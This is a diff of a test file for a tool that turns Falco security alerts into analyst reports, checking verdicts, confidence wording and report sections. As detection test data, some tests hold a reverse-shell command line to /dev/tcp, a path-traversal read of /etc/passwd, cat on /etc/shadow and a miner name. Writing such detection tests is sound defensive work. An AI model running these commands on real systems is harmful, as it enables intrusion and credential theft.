@@ -1,21 +1,22 @@
 import { describe, expect, test } from 'vitest'
 import { problemsIn } from '../../src/report/verify.ts'
 import { anEvent, morning } from '../event.ts'
-import { alertOf, bareEvent, bucketPolicy, commandsOf, materialOf, reportOn, secretRead, selfTest, textOf } from './material.ts'
+import { alertOf, bareEvent, bucketPolicy, commandsOf, dossierOf, materialOf, reportOn, secretRead, selfTest, textOf } from './material.ts'
 
 describe("a report on a run of Falco's event generator", () => {
   const report = reportOn(selfTest)
+  const verdict = textOf(report, 'Verdict')
   const assessment = textOf(report, 'Assessment')
 
   test('says that it is very likely a self-test, how sure that is, and why not certain', () => {
-    expect(assessment).toContain('Very likely a Falco self-test with the event generator, and benign if somebody ran it.')
-    expect(assessment).toMatch(/Confidence: high, because two marks .* not certain, because the name .* can be forged/)
+    expect(verdict).toContain('Very likely a Falco self-test with the event generator, and benign if somebody ran it.')
+    expect(verdict).toMatch(/Confidence: high, because two marks .* not certain, because the name .* can be forged/)
   })
 
   test('shows the marks that it stands on: the file, the parent, and the action made for this rule', () => {
-    expect(assessment).toContain('falco-event-generator-syscall-ExecutionFromDevShm-')
-    expect(assessment).toContain('syscall.ExecutionFromDevShm is made to set off this very rule')
-    expect(assessment).toContain('proc.pname is event-generator')
+    expect(verdict).toContain('falco-event-generator-syscall-ExecutionFromDevShm-')
+    expect(verdict).toContain('syscall.ExecutionFromDevShm is made to set off this very rule')
+    expect(verdict).toContain('proc.pname is event-generator')
   })
 
   test('tells the shell from the binary behind it and from the script that it was given', () => {
@@ -34,7 +35,7 @@ describe("a report on a run of Falco's event generator", () => {
       'Terminal: 34816 (/dev/pts/0)',
     ])
       expect(details).toContain(line)
-    expect(details).toContain('Time: 2026-10-05T13:00:57.015051634Z (UTC)')
+    expect(details).toContain('Time: 2026-10-05T13:00:57.015051634Z (UTC, as all times in this report)')
     expect(details).toContain('Login session: -1 (no login session)')
   })
 
@@ -43,46 +44,39 @@ describe("a report on a run of Falco's event generator", () => {
     expect(textOf(report)).not.toMatch(/T1566|phish/i)
   })
 
-  test.each([
-    ['a malicious process, or malware', /malicious|malware/i],
-    ['a vulnerability or a misconfiguration', /vulnerab|misconfig/i],
-    ['a maturity that could be raised', /upgrade|raise the maturity/i],
-    ['a change of modes on shared memory', /chmod|remount/],
-    ['a list of trusted files', /whitelist|allowlist|\/etc\/falco/],
-    ['settings that Falco does not have', /sources:|severity:|EICAR|falco\.conf/],
-    ['that the script was executed', /script (?:was|is being) executed/],
-    ['a blocked attack', /blocked|prevented/],
-  ])('does not speak of %s', (_what, pattern) => {
-    expect(textOf(report)).not.toMatch(pattern)
+  test('looks at the container under Docker, and keeps containment for the case that nobody tested', () => {
+    const commands = commandsOf(report)
+    expect(commands).toContain('docker top c61b4b13ae44 -eo pid,ppid,user,etime,args')
+    expect(textOf(report, 'Mitigation')).toContain('Containment, only if nobody stands by a test, in this order.')
   })
 
-  test('offers commands that only read, for the container under Docker', () => {
-    expect(commandsOf(report)).toEqual([
-      "docker inspect --format '{{.Config.Image}} {{.Image}} {{.Config.Cmd}} {{.State.StartedAt}}' c61b4b13ae44",
-      'docker top c61b4b13ae44',
-      'docker diff c61b4b13ae44',
-      'docker logs --timestamps --since 2026-10-05T12:50:57Z --until 2026-10-05T13:10:57Z c61b4b13ae44',
-      'findmnt -no OPTIONS /dev/shm',
-      `nsenter -t "$(docker inspect -f '{{.State.Pid}}' c61b4b13ae44)" -m findmnt /dev/shm`,
-      'crictl ps -a --id c61b4b13ae44',
-    ])
-  })
-
-  test('sees in other alerts nearby what fits a test run', () => {
-    const other = (id: string, rule: string) => ({ ...alertOf({ ...selfTest, rule, time: '2026-10-05T13:00:47Z' }, id) })
-    const related = textOf(
-      reportOn(selfTest, { related: [other('a1', 'Fileless execution via memfd_create'), other('a2', 'Clear Log Activities')] }),
-      'Related alerts',
+  test('sees in other alerts of the same container what fits a test run', () => {
+    const other = (id: string, rule: string) => dossierOf({ ...selfTest, rule, time: '2026-10-05T13:00:47Z' }, id)
+    const burst = reportOn(selfTest, { related: [other('a1', 'Fileless execution via memfd_create'), other('a2', 'Clear Log Activities')] })
+    expect(textOf(burst, 'Related activity')).toContain(
+      'Fileless execution via memfd_create on peaceful_mestorf, Warning, 10 s before: shares the same container; one event, open (alert a1).',
     )
-    expect(related).toContain('Fileless execution via memfd_create on peaceful_mestorf, Warning, 10 s before; one event, open (alert a1).')
-    expect(related).toContain('Several rules at once fit a test run')
+    expect(textOf(burst, 'Verdict')).toContain("Within a minute 2 other rules fired with the generator's marks")
   })
 
   test('is not taken in by one mark alone', () => {
     const fields = new Map([...selfTest.fields, ['proc.pname', 'java'], ['proc.pcmdline', 'java -jar shop.jar']])
-    const text = textOf(reportOn({ ...selfTest, fields }), 'Assessment')
+    const text = textOf(reportOn({ ...selfTest, fields }), 'Verdict')
     expect(text).toContain('Perhaps a Falco self-test')
     expect(text).toContain('Confidence: low, because only one mark')
+  })
+
+  test("is not taken in by somebody else's image of that name", () => {
+    const fields = new Map([...selfTest.fields, ['container.image.repository', 'evil.example/falcosecurity/event-generator']])
+    expect(textOf(reportOn({ ...selfTest, fields }), 'Verdict')).not.toContain("names the event generator's image")
+  })
+
+  test('is less sure when the event shows what the generator does not do for this rule', () => {
+    const line = 'sh -c bash -i >& /dev/tcp/203.0.113.24/4444'
+    const fields = new Map([...selfTest.fields, ['proc.cmdline', line], ['container.image.repository', 'falcosecurity/event-generator']])
+    const doubtful = reportOn({ ...selfTest, fields })
+    expect(doubtful.verdict).toMatchObject({ label: 'Falco self-test', confidence: 'medium' })
+    expect(textOf(doubtful, 'Verdict')).toContain('Against it: What the command line asks for opens a network connection')
   })
 
   test('is not taken in by a test that opens an alert which other events then join', () => {
@@ -95,14 +89,17 @@ describe("a report on a run of Falco's event generator", () => {
     }
     const events = [selfTest, intruder].map((event) => ({ event, receivedAt: morning, verdict: 'fold' as const }))
     const folded = reportOn(selfTest, { events, alert: { ...alertOf(selfTest), count: 2 } })
-    expect(textOf(folded, 'Assessment')).toContain('1 of the 2 events looked at do not')
-    expect(textOf(folded, 'Related alerts')).toContain('1 other command line, for one /dev/shm/.x')
+    expect(folded.verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
+    expect(textOf(folded, 'Verdict')).toContain('1 of the 2 events looked at do not')
+    expect(textOf(folded, 'Related activity')).toContain('1 other command line, for one /dev/shm/.x')
     expect(problemsIn(folded)).toEqual([])
   })
 })
 
 describe('a report says what the fields support', () => {
-  const assess = (fields: Parameters<typeof anEvent>[0]) => textOf(reportOn(anEvent(fields)), 'Assessment')
+  const reported = (fields: Parameters<typeof anEvent>[0]) => reportOn(anEvent(fields))
+  const assess = (fields: Parameters<typeof anEvent>[0]) => textOf(reported(fields), 'Verdict')
+  const observe = (fields: Parameters<typeof anEvent>[0]) => textOf(reported(fields), 'Assessment')
 
   test('nothing that settles it: the verdict stays open, with low confidence either way', () => {
     expect(assess({})).toMatch(/Not settled by the event.*\nConfidence: low either way/)
@@ -120,7 +117,9 @@ describe('a report says what the fields support', () => {
 
   test('a binary that did not come with the image is suspicious, one that did is not', () => {
     expect(assess({ fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' } })).toContain('it did not come with the image')
-    expect(assess({ fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_LOWER_LAYER' } })).toMatch(/Not settled[^]*came with the image/)
+    const lower = { fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_LOWER_LAYER' } }
+    expect(assess(lower)).toContain('Not settled')
+    expect(observe(lower)).toContain('came with the image')
   })
 
   test('an errno is a failed attempt, a connection under way is not', () => {
@@ -130,23 +129,82 @@ describe('a report says what the fields support', () => {
 
   test("the cloud's metadata service is named for what it hands out", () => {
     const fields = { 'evt.type': 'connect', 'fd.name': '10.0.0.4:50000->169.254.169.254:80', 'fd.rport': 80 }
-    expect(assess({ fields })).toContain("169.254.169.254 is the cloud's metadata service")
+    expect(assess({ fields })).toContain("The event names 169.254.169.254, the cloud's metadata service")
   })
 
   test('a turned down API request is a failed attempt', () => {
-    expect(textOf(reportOn(secretRead), 'Assessment')).toContain('An attempt that failed (403)')
+    expect(reportOn(secretRead).verdict).toMatchObject({ label: 'failed attempt', confidence: 'high' })
+    expect(textOf(reportOn(secretRead), 'Verdict')).toContain('An attempt that failed (403)')
   })
 
   test('a bucket policy for everybody is suspicious, and is shown without braces', () => {
     const report = reportOn(bucketPolicy)
-    expect(textOf(report, 'Assessment')).toContain('allows something to everybody')
+    expect(textOf(report, 'Verdict')).toContain('allows something to everybody')
+    expect(textOf(report, 'Assessment')).toContain('Exposure, if the call succeeded: the bucket policy allows something to everybody')
     expect(textOf(report, 'Event details')).toContain('Statement: (Effect: Allow; Principal: *; Action: s3:GetObject)')
+  })
+
+  test('a request without credentials is suspicious, but not for what everybody may see', () => {
+    const asked = (uri: string) =>
+      reportOn(
+        bareEvent(
+          { rule: 'Anonymous Request Allowed', source: 'k8s_audit', tags: ['k8s'] },
+          { 'ka.user.name': 'system:anonymous', 'ka.verb': 'get', 'ka.uri': uri, 'ka.response.code': '200' },
+        ),
+      )
+    expect(asked('/api/v1/secrets').verdict.label).toBe('suspicious')
+    expect(textOf(asked('/api/v1/secrets'), 'Assessment')).toContain(
+      'Exposure: the API server carried out (200) a request without credentials',
+    )
+    expect(asked('/version').verdict.label).toBe('not settled')
+    expect(textOf(asked('/version'), 'Assessment')).toContain('No vulnerability and no misconfiguration is shown')
+    expect(textOf(asked('/version'), 'Conclusion')).toContain('ask whoever runs the API server')
+  })
+
+  test.each([
+    ["a miner's name", { 'proc.name': 'xmrig' }, 'xmrig bears the name of a known miner'],
+    ['a program in shared memory', { 'proc.exepath': '/dev/shm/x' }, 'lies in shared memory'],
+    ['a hidden program', { 'proc.exepath': '/opt/.x' }, 'is a hidden file'],
+    [
+      'a path that climbs',
+      { 'proc.name': 'node', 'fd.nameraw': '/srv/app/public/../../../etc/passwd', 'fd.name': '/etc/passwd' },
+      'was led up from its directory',
+    ],
+    ['credentials read with cat in a container', { 'proc.name': 'cat', 'fd.name': '/etc/shadow' }, 'which by its name holds credentials'],
+  ])('%s is suspicious', (_what, fields, words) => {
+    expect(reported({ fields }).verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
+    expect(assess({ fields })).toContain(words)
+  })
+
+  test('a rule that hardly ever fires by mistake is suspicious by itself, with less confidence', () => {
+    const report = reportOn(bareEvent({ rule: 'CloudTrail Logging Disabled', source: 'aws_cloudtrail', tags: [] }, { 'ct.user': 'ana' }))
+    expect(report.verdict).toMatchObject({ label: 'suspicious', confidence: 'low' })
+  })
+
+  test('a program run from shared memory shows that it is not noexec there; a shell given a script does not', () => {
+    const run = (exepath: string) =>
+      observe({ fields: { 'evt.res': 'SUCCESS', 'proc.exepath': exepath, 'proc.cmdline': 'sh -c /dev/shm/x', 'proc.name': 'sh' } })
+    expect(run('/dev/shm/x')).toContain('this shared memory is not mounted noexec')
+    expect(run('/bin/busybox')).toContain('No vulnerability and no misconfiguration is shown')
+  })
+
+  test('a package manager beneath a tool that builds images is probably known', () => {
+    const fields = { 'proc.name': 'apk', 'proc.pname': 'sh', 'proc.aname[2]': 'buildkitd' }
+    expect(reported({ fields }).verdict).toMatchObject({ label: 'known maintenance', confidence: 'low' })
+  })
+
+  test('an execve without a result is not said to have run', () => {
+    expect(textOf(reported({}), 'Summary')).toContain('bash was seen in a call to execute it, whose result the event does not give,')
+    expect(textOf(reported({ fields: { 'evt.res': 'SUCCESS' } }), 'Summary')).toContain('bash was executed')
+    expect(textOf(reported({ fields: { 'evt.res': 'EACCES' } }), 'Summary')).toContain('bash called execve')
   })
 
   test('lost events are a blind spot and no threat', () => {
     const fields = { n_drops: '28901', n_evts: '173406' }
     const report = reportOn(bareEvent({ rule: 'Falco internal: syscall event drop', source: 'internal', tags: [] }, fields))
+    expect(report.verdict.label).toBe('sensor health')
     expect(textOf(report, 'Summary')).toContain('Falco lost 28901 of 173406 events')
+    expect(textOf(report, 'Mitigation')).toContain('n_drops_buffer_total is the buffer between kernel and Falco being full')
   })
 })
 
@@ -155,19 +213,20 @@ describe('a report says where it knows nothing', () => {
   const report = reportOn(custom)
 
   test('a rule that is not official', () => {
-    expect(textOf(report, 'Rule and its meaning')).toBe(
+    expect(textOf(report, 'Falco rule')).toBe(
       'This rule is not in the catalogue of official rules: its meaning is known to whoever wrote it.',
     )
+    expect(textOf(report, 'Assessment')).toContain('What would confirm or refute it is not known here')
     expect(report.title).toBe('Report on alert k3m9x2p7')
   })
 
   test('an event without tags for ATT&CK', () => {
-    expect(textOf(report, 'ATT&CK')).toBe("ATT&CK: not mapped by the rule's tags.")
+    expect(textOf(report, 'ATT&CK')).toMatch(/^Not mapped upstream: the rule's tags name no tactic/)
   })
 
   test('an event without fields, which leaves the text of its rule', () => {
     expect(textOf(report, 'Summary')).toContain('The event has no output fields')
-    expect(textOf(report, 'Summary')).toContain("The rule's own text says: something happened")
+    expect(textOf(report, 'Summary')).toContain("The rule's text, as Falco filled it in, says: something happened")
     expect(problemsIn(report)).toEqual([])
   })
 
@@ -176,7 +235,7 @@ describe('a report says where it knows nothing', () => {
     const forgotten = { ...shell, raw: '', output: undefined, tags: [], fields: new Map() }
     const report = reportOn(forgotten, { alert: alertOf(shell) })
     expect(textOf(report, 'Summary')).toContain("The event's text is no longer kept (retain in falconer.yml), so little can be said of it")
-    expect(textOf(report, 'Conclusion')).toContain("low either way, because the event's text is no longer kept.")
+    expect(textOf(report, 'Verdict')).toContain("low either way, because the event's text is no longer kept.")
     expect(textOf(report, 'ATT&CK')).toContain("This is by the rule's tags")
     expect(textOf(report)).not.toMatch(/no output fields|carries none|no field tells/)
     expect(problemsIn(report)).toEqual([])
@@ -193,15 +252,28 @@ describe('a report says where it knows nothing', () => {
     expect(problemsIn(report)).toEqual([])
   })
 
-  test('a source that no command fits', () => {
-    const okta = bareEvent({ source: 'okta', rule: 'Creating a new OKTA API token', tags: [] }, { 'okta.actor.name': 'ana' })
-    expect(textOf(reportOn(okta), 'Next steps')).toContain('No command of ours fits this event')
+  test('a source that no step fits', () => {
+    const foreign = bareEvent({ source: 'nomad', rule: 'Our own job rule', tags: [] }, { user: 'ana' })
+    expect(textOf(reportOn(foreign), 'Mitigation')).toContain('No steps of ours fit events of this source')
+    expect(problemsIn(reportOn(foreign))).toEqual([])
+  })
+
+  test('a rule of our own, whose tags say what it is about', () => {
+    const own = reportOn(anEvent({ rule: 'Our own rule', tags: ['mitre_credential_access'] }))
+    expect(textOf(own, 'Falco rule')).toContain('Going by its tags it is about credential access')
+    expect(problemsIn(own)).toEqual([])
+  })
+
+  test("the sensor's local time, which the rule's text begins with", () => {
+    const output = '10:29:59.812345678: Notice A shell was spawned'
+    const text = textOf(reportOn(bareEvent({ rule: 'Our own rule', tags: [], output }, {})))
+    expect(text).toContain('says: A shell was spawned')
+    expect(text).not.toContain('10:29:59')
   })
 
   test('an alert without company', () => {
-    const searched = { from: morning - 3_600_000, until: morning }
-    expect(textOf(reportOn(selfTest, { searched }), 'Related alerts')).toBe(
-      'No other alert on the same workload or hosts was found in the ledger between 2026-11-24T08:30:00.000Z and 2026-11-24T09:30:00.000Z.',
+    expect(textOf(reportOn(selfTest), 'Related activity')).toBe(
+      'No other alert of the same container, pod, workload, actor, process or user was found in the ledger between 2026-11-24T08:30:00Z and 2026-11-24T09:30:00Z.',
     )
   })
 
@@ -219,7 +291,7 @@ describe('a report shows', () => {
       { kind: 'resolved', at: morning, by: 'U1', outcome: 'benign', note: 'planned work' },
     ] as const
     const report = reportOn(anEvent(), { facts })
-    expect(textOf(report, 'Related alerts')).toContain('U1 resolved it as benign, 2026-11-24T09:30:00.000Z, saying planned work.')
+    expect(textOf(report, 'Related activity')).toContain('U1 resolved it as benign, 2026-11-24T09:30:00Z, saying planned work.')
     expect(problemsIn(report)).toEqual([])
   })
 
@@ -232,12 +304,12 @@ describe('a report shows', () => {
   test("where the official rule's own text misleads", () => {
     const rule = 'Admin permission has been assigned to a user in OKTA'
     const report = reportOn(bareEvent({ rule, source: 'okta', tags: [] }, { 'okta.actor.name': 'ana' }))
-    expect(textOf(report, 'Rule and its meaning')).toContain('To be read with care: The output text says')
+    expect(textOf(report, 'Falco rule')).toContain('To be read with care: The output text says')
   })
 
   test('where the official rule has to be changed before it can fire', () => {
     const report = reportOn(bareEvent({ rule: 'Create Disallowed Pod', source: 'k8s_audit', tags: [] }, { 'ka.user.name': 'ana' }))
-    expect(textOf(report, 'Rule and its meaning')).toContain('cannot fire, because the macro allowed_k8s_containers allows every pod')
+    expect(textOf(report, 'Falco rule')).toContain('cannot fire, because the macro allowed_k8s_containers allows every pod')
   })
 
   test('that tags disagree with ATT&CK', () => {
@@ -252,11 +324,18 @@ describe('a report shows', () => {
 
   test('a value of any length as a part of bearable length', () => {
     const report = reportOn(anEvent({ fields: { 'proc.cmdline': `run ${'x'.repeat(100_000)}` } }))
-    expect(JSON.stringify(report).length).toBeLessThan(40_000)
+    expect(JSON.stringify(report).length).toBeLessThan(60_000)
     expect(problemsIn(report)).toEqual([])
   })
 
   test('the same material twice as the same report', () => {
     expect(reportOn(selfTest)).toEqual(reportOn(materialOf(selfTest).sample))
   })
+})
+
+test("the sensor's local time is not shown among the fields either", () => {
+  const report = reportOn(
+    anEvent({ fields: { 'evt.datetime': '2026-11-24 10:29:59.812345678', 'evt.time': 1783277459111213264n.toString() } }),
+  )
+  expect(textOf(report)).not.toContain('10:29:59')
 })
